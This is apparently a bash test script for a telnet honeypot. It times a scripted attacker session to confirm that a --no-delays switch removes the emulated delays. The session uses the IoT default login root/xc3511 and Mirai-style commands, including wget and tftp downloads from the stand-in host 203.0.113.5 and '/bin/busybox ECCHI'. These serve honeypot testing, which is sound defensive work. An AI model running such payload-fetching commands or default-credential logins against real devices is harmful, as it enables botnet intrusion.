#!/usr/bin/env bash
# honeypot.delays = false (--no-delays) switches off every deliberate delay — the failed-login
# pause, the shell's reply jitter, and the applets' own (sleep, wget, tftp, ping, ...) — which the
# load benchmark relies on (bench/load.sh); with delays on, they are there.
source "$(dirname "$0")/lib/honeypot.sh"

run_dialogue() {  # MAX_MS_PER_REPLY: fails if a reply takes longer
  python3 - "$PORT" "$1" <<'PY'
import socket, sys, time
port, limit_ms = int(sys.argv[1]), float(sys.argv[2])
s = socket.create_connection(("127.0.0.1", port), timeout=20)
buf = b""
def until(want):
    global buf
    while not buf.endswith(want):
        data = s.recv(65536)
        assert data, buf
        buf += data
    buf = b""
def timed(send, want, what):
    start = time.monotonic()
    s.sendall(send)
    until(want)
    ms = (time.monotonic() - start) * 1000
    print("%-40s %8.1f ms" % (what, ms))
    return ms
# Each step twice, the faster time counts: a deliberate delay is there both times, a hiccup
# of a busy machine rarely is.
until(b"login: ")
best = {}
def keep(what, ms):
    best[what] = min(best.get(what, ms), ms)
for _ in range(2):
    s.sendall(b"root\r\n"); until(b"Password: ")
    keep("failed login", timed(b"wrong\r\n", b"login: ", "failed login"))
s.sendall(b"root\r\n"); until(b"Password: ")
keep("login", timed(b"xc3511\r\n", b"# ", "login"))
for _ in range(2):
    for command in [b"sleep 2", b"wget http://203.0.113.5/x", b"tftp -g -r x 203.0.113.5",
                    b"ping -c 2 203.0.113.5", b"/bin/busybox ECCHI"]:
        keep(command.decode(), timed(command + b"\r\n", b"# ", command.decode()))
worst = max(best.values())
print("worst %.1f ms (limit %.0f ms)" % (worst, limit_ms))
sys.exit(0 if worst <= limit_ms else 1)
PY
}

start_honeypot --no-delays
run_dialogue 100 >"$WORK/fast.out" 2>&1 || fail "a delay left with --no-delays: $(cat "$WORK/fast.out")"
cat "$WORK/fast.out"
stop_honeypot

# With delays on, the same dialogue is slow (failed login 1-3 s, sleep 2 s): the switch is real.
start_honeypot
if run_dialogue 900 >"$WORK/slow.out" 2>&1; then fail "no delay with delays on: $(cat "$WORK/slow.out")"; fi
grep -q "^worst" "$WORK/slow.out" || fail "dialogue with delays failed: $(cat "$WORK/slow.out")"
echo "with delays: $(grep '^worst' "$WORK/slow.out")"
stop_honeypot
echo "serve_no_delays OK"
